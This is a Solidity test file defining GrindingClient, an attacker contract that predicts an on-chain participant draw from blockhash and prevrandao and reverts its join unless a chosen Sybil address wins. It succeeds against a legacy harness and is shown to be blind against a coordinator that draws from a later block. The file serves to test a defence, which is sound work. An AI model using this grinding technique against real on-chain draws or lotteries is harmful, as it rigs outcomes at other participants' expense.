// SPDX-License-Identifier: MIT
// Test-only attacker: a contract registered as a client that sends the join filling a MASH round, recomputes the
// draw inside that join from everything the transaction can read, and reverts unless the holder will be its Sybil.
// A revert costs it nothing but the gas, so against a draw computable in the join it retries block after block until
// it wins (LegacyDrawHarness); against the coordinator, whose draw uses the hash of a later block, its prediction is
// blind. Never deployed by the Ignition module.
pragma solidity ^0.8.28;

import {IFedmashCoordinator} from "../interfaces/IFedmashCoordinator.sol";
import {IFedmashRegistry} from "../interfaces/IFedmashRegistry.sol";
import {LegacyDrawHarness} from "./LegacyDrawHarness.sol";

contract GrindingClient {
    address private immutable _controller;

    /// @notice Only the deployer drives this account.
    error GrindingClientNotController(address caller);

    /// @notice The draw this transaction predicts names `predictedHolder`, not the Sybil: the join is withdrawn.
    error GrindMissed(address predictedHolder, address sybil);

    /// @notice Emitted by a join the grinder let through: what it read and predicted inside the transaction.
    event Predicted(bytes32 drawHash, bytes32 seed, address predictedHolder);

    modifier onlyController() {
        if (msg.sender != _controller) revert GrindingClientNotController(msg.sender);
        _;
    }

    constructor() {
        _controller = msg.sender;
    }

    /// @notice Registers this contract as a client.
    function register(IFedmashRegistry registry, bytes calldata encryptionKey) external onlyController {
        registry.register(IFedmashRegistry.Role.Client, encryptionKey);
    }

    /// @notice Fills the legacy round only if the draw of this very transaction makes `sybil` the holder.
    function grindLegacy(LegacyDrawHarness harness, address sybil) external onlyController {
        address[] memory joined = _withSelf(harness.participants());
        bytes32 seed = keccak256(
            abi.encode(blockhash(block.number - 1), block.prevrandao, address(harness), harness.roundId(), joined)
        );
        address predicted = _holderOf(seed, joined);
        if (predicted != sybil) revert GrindMissed(predicted, sybil);
        harness.join();
        emit Predicted(blockhash(block.number - 1), seed, predicted);
    }

    /// @notice Fills the coordinator's round only if the draw, as far as this transaction can compute it, makes
    /// `sybil` the holder. The filling join arms the draw for block `block.number + 1`, whose hash reads as zero here.
    function grindCoordinator(IFedmashCoordinator coordinator, uint256 roundId, address sybil) external onlyController {
        (bytes32 drawHash, bytes32 seed, address predicted) = predictCoordinator(coordinator, roundId);
        if (predicted != sybil) revert GrindMissed(predicted, sybil);
        coordinator.join(roundId);
        emit Predicted(drawHash, seed, predicted);
    }

    /// @notice Fills the coordinator's round and draws in the same transaction, keeping the join only if `sybil` is
    /// the holder: the draw cannot happen in the block that armed it, so there is never a holder to check.
    function joinAndDraw(IFedmashCoordinator coordinator, uint256 roundId, address sybil) external onlyController {
        coordinator.join(roundId);
        coordinator.advance(roundId);
        address holder = coordinator.mashRound(roundId).holder;
        if (holder != sybil) revert GrindMissed(holder, sybil);
    }

    /// @notice Joins without looking: what is left to an attacker whose prediction is blind.
    function joinBlind(IFedmashCoordinator coordinator, uint256 roundId) external onlyController {
        coordinator.join(roundId);
    }

    /// @notice The coordinator's draw computed from what a transaction mined now can read, assuming this contract's
    /// join fills the round: the hash of the draw block (the next one) is zero to it.
    function predictCoordinator(
        IFedmashCoordinator coordinator,
        uint256 roundId
    ) public view returns (bytes32 drawHash, bytes32 seed, address predicted) {
        address[] memory joined = _withSelf(coordinator.participants(roundId));
        drawHash = blockhash(block.number + 1);
        seed = keccak256(abi.encode(drawHash, address(coordinator), roundId, joined));
        predicted = _holderOf(seed, joined);
    }

    function _withSelf(address[] memory joined) private view returns (address[] memory all) {
        all = new address[](joined.length + 1);
        for (uint256 index = 0; index < joined.length; ++index) all[index] = joined[index];
        all[joined.length] = address(this);
    }

    /// @dev GroupingLib.draw's holder: `participants[seed % n]`.
    function _holderOf(bytes32 seed, address[] memory joined) private pure returns (address) {
        return joined[uint256(seed) % joined.length];
    }
}
